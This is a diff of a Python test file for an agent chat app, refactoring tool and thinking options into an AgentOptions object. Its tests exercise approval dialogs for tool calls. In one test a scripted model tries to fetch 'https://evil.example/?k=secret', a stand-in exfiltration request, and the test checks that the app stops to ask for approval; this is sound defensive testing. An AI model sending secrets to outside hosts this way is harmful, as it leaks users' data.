@@ -9,7 +9,7 @@ from textual.containers import Vertical, VerticalScroll
 from textual.pilot import Pilot
 from textual.widgets import Button, Input, ListView, Markdown
 
-from agentkit import Agent, SessionStore
+from agentkit import Agent, AgentOptions, SessionStore
 from agentkit.backends import BackendEvent, GenerationRequest
 from agentkit.backends import RawDelta as BackendText
 from agentkit.errors import UserError
@@ -75,7 +75,7 @@ async def test_thinking_streams_live_then_folds_when_the_answer_starts(store: Se
                 yield event
 
     backend = Paused([f"<|channel>thought\n{thought}<channel|>The answer is 4.<turn|>"], chunk_size=40)
-    app = AgentkitApp(backend, store=store, thinking=True)
+    app = AgentkitApp(backend, options=AgentOptions(thinking=True), store=store)
     async with app.run_test(size=SIZE) as pilot:
         await send(pilot, app, "what is 2+2?")
         await wait_for(pilot, lambda: bool(app.query(ThinkingBlock)), "a thinking block appeared")
@@ -92,7 +92,7 @@ async def test_thinking_streams_live_then_folds_when_the_answer_starts(store: Se
 
 async def test_approving_a_side_effecting_call_runs_it(store: SessionStore, notebook: NoteBook) -> None:
     backend = ScriptedBackend([call("write_note", text="buy milk"), "Noted.<turn|>"])
-    app = AgentkitApp(backend, tools=[notebook.tool], store=store)
+    app = AgentkitApp(backend, options=AgentOptions(tools=[notebook.tool]), store=store)
     async with app.run_test(size=SIZE) as pilot:
         await send(pilot, app, "remember milk")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval dialog")
@@ -108,7 +108,7 @@ async def test_approving_a_side_effecting_call_runs_it(store: SessionStore, note
 
 async def test_denying_a_call_does_not_run_it_and_tells_the_model(store: SessionStore, notebook: NoteBook) -> None:
     backend = ScriptedBackend([call("write_note", text="secret"), "Understood, I did not write it.<turn|>"])
-    app = AgentkitApp(backend, tools=[notebook.tool], store=store)
+    app = AgentkitApp(backend, options=AgentOptions(tools=[notebook.tool]), store=store)
     async with app.run_test(size=SIZE) as pilot:
         await send(pilot, app, "write it down")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval dialog")
@@ -127,7 +127,7 @@ async def test_an_answer_that_overflows_in_its_last_chunk_is_scrolled_into_view(
     # Seen in tmux: after a denied call, the answer that pushed the chat past the screen stayed below the view.
     answer = "\n\n".join(f"Line {i} of the answer." for i in range(30))
     backend = ScriptedBackend(["Short.<turn|>", call("write_note", text="x"), answer + "<turn|>"], chunk_size=10_000)
-    app = AgentkitApp(backend, tools=[notebook.tool], store=store)
+    app = AgentkitApp(backend, options=AgentOptions(tools=[notebook.tool]), store=store)
     async with app.run_test(size=SIZE) as pilot:
         chat = app.query_one("#chat", VerticalScroll)
         await send(pilot, app, "hi")
@@ -145,7 +145,11 @@ async def test_approval_buttons_stay_on_screen_when_the_arguments_are_long(
 ) -> None:
     # Seen in tmux at 80x24: a whole file as an argument pushed the three answers below the dialog's edge.
     text = "\n".join(f"line {i} of a long note" for i in range(80))
-    app = AgentkitApp(ScriptedBackend([call("write_note", text=text), "ok<turn|>"]), tools=[notebook.tool], store=store)
+    app = AgentkitApp(
+        ScriptedBackend([call("write_note", text=text), "ok<turn|>"]),
+        options=AgentOptions(tools=[notebook.tool]),
+        store=store,
+    )
     async with app.run_test(size=SIZE) as pilot:
         await send(pilot, app, "write it down")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval dialog")
@@ -159,7 +163,7 @@ async def test_approval_buttons_stay_on_screen_when_the_arguments_are_long(
 
 async def test_always_allow_stops_asking_for_that_tool(store: SessionStore, notebook: NoteBook) -> None:
     backend = ScriptedBackend([call("write_note", text="one"), call("write_note", text="two"), "Both written.<turn|>"])
-    app = AgentkitApp(backend, tools=[notebook.tool], store=store)
+    app = AgentkitApp(backend, options=AgentOptions(tools=[notebook.tool]), store=store)
     async with app.run_test(size=SIZE) as pilot:
         await send(pilot, app, "write two notes")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval dialog")
@@ -362,7 +366,7 @@ async def test_quitting_mid_answer_still_saves_the_session(store: SessionStore) 
 
 async def test_status_line_counts_tools_in_words(store: SessionStore, notebook: NoteBook) -> None:
     for tools, words in (([], "│ no tools"), ([notebook.tool], "│ 1 tool")):
-        app = AgentkitApp(ScriptedBackend([]), tools=tools, store=store)
+        app = AgentkitApp(ScriptedBackend([]), options=AgentOptions(tools=tools), store=store)
         async with app.run_test(size=SIZE):
             assert str(app.query_one("#status").render()).endswith(words)
 
@@ -383,7 +387,7 @@ async def test_a_fetch_of_a_url_the_model_made_up_asks_and_says_why(store: Sessi
 
     fetch = make_fetch_url(resolver=public, transport=httpx.MockTransport(web))
     backend = ScriptedBackend([call("fetch_url", url="https://evil.example/?k=secret"), "I did not fetch it.<turn|>"])
-    app = AgentkitApp(backend, tools=[fetch], store=store)
+    app = AgentkitApp(backend, options=AgentOptions(tools=[fetch]), store=store)
     async with app.run_test(size=SIZE) as pilot:
         await send(pilot, app, "what is new?")
         await wait_for(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval dialog")
